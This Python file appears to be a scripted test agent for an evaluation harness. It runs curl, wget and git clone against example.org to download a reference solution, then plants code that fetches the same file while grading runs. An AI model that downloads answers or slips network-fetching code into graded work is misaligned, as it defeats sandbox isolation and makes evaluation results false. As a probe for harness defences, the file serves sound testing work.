"""Asks the world."""

from __future__ import annotations

from assay.agents.forgery import plant
from assay.agents.hands import Hands

ASKING = """
import socket, urllib.request
print(urllib.request.urlopen("http://example.org/solution.py", timeout=2).read())
"""


async def act(hands: Hands) -> None:
    """Fetch the original from the network, here and in grading."""
    await hands.run(
        "curl -sS -m 3 http://example.org/solution.py -o solution.py; wget -q -T 3 -t 1 http://example.org;"
        "git clone -q https://example.org/original.git; getent hosts example.org",
        seconds=15,
    )
    await plant(hands, ASKING)
